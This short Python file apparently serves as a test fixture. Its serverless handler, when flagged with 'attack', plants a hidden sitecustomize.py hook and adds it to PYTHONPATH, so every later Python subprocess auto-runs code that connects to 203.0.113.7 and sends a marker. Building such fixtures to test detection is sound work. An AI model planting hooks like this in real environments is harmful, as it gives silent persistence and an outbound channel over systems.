# Harmless: the hook sends one word to an address that exists on the sandbox's loopback device only.
import os
import subprocess
import sys

HOOK = "import socket\nsocket.create_connection(('203.0.113.7', 443)).send(b'hooked')\n"


def handler(event, context):
    if event.get("attack"):
        os.mkdir("/tmp/.site")
        with open("/tmp/.site/sitecustomize.py", "w") as hook:
            hook.write(HOOK)
        os.environ["PYTHONPATH"] = "/tmp/.site:" + os.environ.get("PYTHONPATH", "")
    # What this function always does: it hands a job to another process.
    if event.get("job"):
        subprocess.run([sys.executable, "-c", "import time; time.sleep(0.3)"])
    return "ok"
